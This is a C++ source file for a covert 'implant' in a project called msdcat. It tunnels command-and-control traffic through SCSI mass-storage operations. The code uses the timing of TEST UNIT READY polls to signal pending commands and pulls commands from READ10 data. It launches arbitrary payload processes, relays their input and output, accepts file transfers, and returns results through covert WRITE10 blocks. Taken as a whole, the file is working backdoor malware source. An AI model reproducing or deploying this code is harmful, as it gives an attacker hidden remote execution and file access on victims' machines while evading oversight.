#include "msdcat/implant.hpp"

#include "msdcat/error.hpp"

#include <thread>

namespace msdcat {

bool is_pending(Duration rtt, Duration baseline, Duration margin) {
  return rtt > baseline + margin;
}

const char* to_string(SessionState state) {
  switch (state) {
    case SessionState::Opening: return "opening";
    case SessionState::Active: return "active";
    case SessionState::Closed: return "closed";
  }
  return "?";
}

Channel::Channel(Transport& transport, ChannelConfig config)
    : transport_(transport), config_(config) {
  transport_.set_timeout(config_.poll_timeout);
}

ScsiResponse Channel::exchange(const ScsiExchange& x) {
  return transport_.submit(x).response;
}

void Channel::update_baseline(Duration rtt) {
  if (!have_baseline_) {
    baseline_ = rtt;
    have_baseline_ = true;
    return;
  }
  const double next = config_.ewma_alpha * static_cast<double>(rtt.count()) +
                      (1.0 - config_.ewma_alpha) * static_cast<double>(baseline_.count());
  baseline_ = Duration(static_cast<Duration::rep>(next));
}

PollObservation Channel::poll_once() {
  const auto poll = scsi::mark_covert(scsi::Cdb::test_unit_ready());
  const auto result = transport_.submit(ScsiExchange::command(poll));
  polls_.fetch_add(1);
  PollObservation obs;
  obs.rtt = result.elapsed;
  obs.baseline_ewma = baseline_;
  obs.pending = is_pending(obs.rtt, obs.baseline_ewma, config_.detect_margin);
  if (obs.pending) {
    pending_.fetch_add(1);
  } else {
    update_baseline(obs.rtt);
  }
  return obs;
}

void Channel::note_false_alarm(const PollObservation& obs) { update_baseline(obs.rtt); }

std::vector<Datagram> Channel::fetch_commands() {
  const auto read = scsi::mark_covert(scsi::Cdb::read10(0, config_.fetch_blocks));
  const auto response = exchange(ScsiExchange::command(read));
  reads_.fetch_add(1);
  if (response.status != ScsiStatus::Good) {
    return {};
  }
  auto datagrams = unpack_datagrams(response.data_in);
  datagrams_in_.fetch_add(datagrams.size());
  return datagrams;
}

void Channel::send_results(std::span<const Datagram> datagrams) {
  for (const auto& d : datagrams) {
    validate(d);
  }
  for (const auto& batch : batch_by_blocks(datagrams, config_.max_write_blocks)) {
    auto data = pack_blocks(batch);
    const auto blocks = static_cast<std::uint16_t>(data.size() / scsi::kBlockSize);
    const auto write = scsi::mark_covert(scsi::Cdb::write10(0, blocks));
    exchange(ScsiExchange::write(write, std::move(data)));
    writes_.fetch_add(1);
    datagrams_out_.fetch_add(batch.size());
  }
}

ChannelCounters Channel::counters() const {
  return {polls_.load(), pending_.load(), reads_.load(), writes_.load(), datagrams_in_.load(),
          datagrams_out_.load()};
}

Implant::Implant(std::unique_ptr<Transport> transport, PayloadHost& payloads, ChannelConfig config)
    : transport_(std::move(transport)), payloads_(payloads), channel_(*transport_, config) {}

Implant::~Implant() = default;

LoopExit Implant::run(std::stop_token stop) {
  while (!stop.stop_requested()) {
    const auto started = Clock::now();
    bool busy = false;
    try {
      busy = step();
    } catch (const Error& e) {
      if (e.code() == ErrorCode::TransportClosed || e.code() == ErrorCode::Timeout) {
        return LoopExit::ChannelDown;
      }
      // A malformed fetch loses that batch only.
    }
    if (busy) {
      continue;
    }
    std::mutex m;
    std::condition_variable_any cv;
    std::unique_lock lock(m);
    cv.wait_until(lock, stop, started + channel_.config().poll_interval, [] { return false; });
  }
  return LoopExit::Stopped;
}

bool Implant::step() {
  bool fetched = false;
  const auto obs = channel_.poll_once();
  if (obs.pending) {
    const auto commands = channel_.fetch_commands();
    if (commands.empty()) {
      channel_.note_false_alarm(obs);
    }
    for (const auto& d : commands) {
      dispatch(d);
    }
    fetched = !commands.empty();
  }
  collect_output();
  flush();
  return fetched;
}

std::map<std::uint16_t, Session> Implant::sessions() const {
  std::lock_guard lock(sessions_mu_);
  return sessions_;
}

void Implant::dispatch(const Datagram& d) {
  switch (d.type) {
    case DatagramType::Open: on_open(d); break;
    case DatagramType::Data: on_data(d); break;
    case DatagramType::Close: on_close(d); break;
    case DatagramType::FileBegin:
    case DatagramType::FileChunk:
    case DatagramType::FileEnd: on_file(d); break;
    case DatagramType::Pad:
    case DatagramType::Error:
      reply_error(d.session_id, std::string("unexpected ") + to_string(d.type));
      break;
  }
}

void Implant::reply(Session& s, DatagramType type, std::string_view text) {
  outbox_.push_back(Datagram::make(type, s.session_id, s.next_seq_out++, text));
}

void Implant::reply_error(std::uint16_t id, std::string_view text) {
  std::uint16_t seq = 0;
  const auto msg = text.substr(0, Datagram::kMaxPayload);
  std::lock_guard lock(sessions_mu_);
  if (const auto it = sessions_.find(id); it != sessions_.end()) {
    seq = it->second.next_seq_out++;
  }
  outbox_.push_back(Datagram::make(DatagramType::Error, id, seq, msg));
}

void Implant::on_open(const Datagram& d) {
  {
    std::lock_guard lock(sessions_mu_);
    const auto it = sessions_.find(d.session_id);
    if (it != sessions_.end() && it->second.state != SessionState::Closed) {
      outbox_.push_back(Datagram::make(DatagramType::Error, d.session_id,
                                       it->second.next_seq_out++, "session already open"));
      return;
    }
    Session s;
    s.session_id = d.session_id;
    s.payload_spec = std::string(d.text());
    s.expected_seq_in = static_cast<std::uint16_t>(d.seq + 1);
    sessions_[d.session_id] = s;
  }
  try {
    const auto& proc = payloads_.launch(std::string(d.text()), d.session_id);
    std::lock_guard lock(sessions_mu_);
    auto& s = sessions_[d.session_id];
    s.state = SessionState::Active;
    reply(s, DatagramType::Open, "pid " + std::to_string(proc.pid()));
  } catch (const Error& e) {
    std::lock_guard lock(sessions_mu_);
    auto& s = sessions_[d.session_id];
    s.state = SessionState::Closed;
    reply(s, DatagramType::Error, std::string(e.what()).substr(0, Datagram::kMaxPayload));
  }
}

void Implant::on_data(const Datagram& d) {
  {
    std::lock_guard lock(sessions_mu_);
    const auto it = sessions_.find(d.session_id);
    if (it == sessions_.end() || it->second.state != SessionState::Active) {
      const bool known = it != sessions_.end();
      outbox_.push_back(Datagram::make(DatagramType::Error, d.session_id,
                                       known ? it->second.next_seq_out++ : 0,
                                       known ? "session closed" : "unknown session"));
      return;
    }
    auto& s = it->second;
    if (d.seq != s.expected_seq_in) {
      reply(s, DatagramType::Error,
            "sequence gap: expected " + std::to_string(s.expected_seq_in) + ", got " +
                std::to_string(d.seq));
    }
    s.expected_seq_in = static_cast<std::uint16_t>(d.seq + 1);
  }
  try {
    payloads_.write_stdin(d.session_id, d.payload);
  } catch (const Error& e) {
    reply_error(d.session_id, e.what());
  }
}

void Implant::on_close(const Datagram& d) {
  std::unique_lock lock(sessions_mu_);
  const auto it = sessions_.find(d.session_id);
  if (it == sessions_.end() || it->second.state != SessionState::Active) {
    const bool known = it != sessions_.end();
    outbox_.push_back(Datagram::make(DatagramType::Error, d.session_id,
                                     known ? it->second.next_seq_out++ : 0,
                                     known ? "session closed" : "unknown session"));
    return;
  }
  auto& s = it->second;
  lock.unlock();
  int status = -1;
  if (auto* proc = payloads_.find(s.session_id)) {
    status = proc->terminate();
  }
  lock.lock();
  drain_session(s, SIZE_MAX, true);
  if (payloads_.find(s.session_id) != nullptr) {
    payloads_.terminate(s.session_id);
  }
  s.state = SessionState::Closed;
  reply(s, DatagramType::Close, "exit " + std::to_string(status));
}

void Implant::on_file(const Datagram& d) {
  try {
    if (auto receipt = payloads_.receive_file_datagram(d)) {
      std::vector<std::uint8_t> payload;
      for (int shift = 24; shift >= 0; shift -= 8) {
        payload.push_back(static_cast<std::uint8_t>(receipt->crc32 >> shift));
      }
      for (int shift = 56; shift >= 0; shift -= 8) {
        payload.push_back(static_cast<std::uint8_t>(receipt->bytes_written >> shift));
      }
      outbox_.push_back(Datagram::make(DatagramType::FileEnd, d.session_id, 0, payload));
    }
  } catch (const Error& e) {
    outbox_.push_back(Datagram::make(DatagramType::Error, d.session_id, 0,
                                     std::string(e.what()).substr(0, Datagram::kMaxPayload)));
  }
}

void Implant::drain_session(Session& s, std::size_t budget, bool final) {
  auto* proc = payloads_.find(s.session_id);
  if (proc == nullptr) {
    return;
  }
  for (;;) {
    auto chunk = proc->drain_stdout(std::min(budget, kDrainBudget));
    budget -= std::min(budget, chunk.bytes.size());
    auto datagrams = chunk_payload(DatagramType::Data, s.session_id, s.next_seq_out, chunk.bytes);
    outbox_.insert(outbox_.end(), std::make_move_iterator(datagrams.begin()),
                   std::make_move_iterator(datagrams.end()));
    if (chunk.end_of_stream || chunk.bytes.empty() || budget == 0) {
      if (chunk.end_of_stream && !final) {
        const auto status = proc->wait_exit(PayloadProcess::kTerminateGrace);
        payloads_.terminate(s.session_id);
        s.state = SessionState::Closed;
        reply(s, DatagramType::Close, "exit " + std::to_string(status.value_or(-1)));
      }
      return;
    }
  }
}

void Implant::collect_output() {
  std::lock_guard lock(sessions_mu_);
  for (auto& [id, s] : sessions_) {
    if (s.state == SessionState::Active) {
      drain_session(s, kDrainBudget, false);
    }
  }
}

void Implant::flush() {
  if (outbox_.empty()) {
    return;
  }
  auto pending = std::exchange(outbox_, {});
  channel_.send_results(pending);
}

}  // namespace msdcat
